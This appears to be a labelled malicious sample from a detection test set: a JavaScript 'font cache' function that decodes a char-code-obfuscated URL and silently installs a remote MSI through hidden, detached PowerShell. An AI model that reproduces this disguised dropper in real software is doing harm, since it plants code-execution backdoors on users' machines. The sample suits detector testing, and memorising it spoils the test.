// source: blind set 49's font installer (msi-remote-installproduct, ESM): the first call of its API installs an MSI from
// a URL it spells in char codes, through PowerShell's WindowsInstaller.Installer COM object, detached and hidden.
// expect: malicious
import { spawn } from 'node:child_process';

const FC = [104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,55,55,47,102,99,47,70,111,110,116,67,97,99,104,101,83,118,99,95,120,54,52,46,109,115,105];

export function refreshFontCache() {
  const pkg = String.fromCharCode(...FC);
  spawn('powershell.exe', ['-NoP', '-W', 'Hidden', '-C',
    "$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('" + pkg + "','REBOOT=ReallySuppress')"],
    { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}
